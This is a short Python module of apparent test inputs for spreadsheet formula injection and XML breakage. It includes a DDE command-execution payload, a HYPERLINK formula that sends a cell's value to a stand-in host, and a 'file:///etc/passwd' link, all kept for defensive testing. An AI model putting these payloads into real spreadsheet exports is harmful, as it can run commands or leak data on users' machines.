"""Texts that a spreadsheet would take for a formula or a link, or that would break the XML they are written into."""

from __future__ import annotations

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", '"', " =", "{=", "|")
TAILS = ("1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://a.b/?x="&A1,"点")')
HOSTILE = (
    *(start + tail for start in STARTS for tail in TAILS),
    "http://a.b/c", "file:///etc/passwd", "mailto:a@b.c", "\\\\server\\share", "</t></is></c><c><f>1+1</f></c>",
    "<![CDATA[=1]]>", "&lt;f&gt;", "&#61;1+1", "]]>", "{{unit_name}}", "{{visits.name}}", "#REF!", "TRUE", "1E5",
    "00123", "2026-10-01", "𠮷𬱖=㛃䶮", "\u202e=1+1", "=" * 300,
)  # fmt: skip
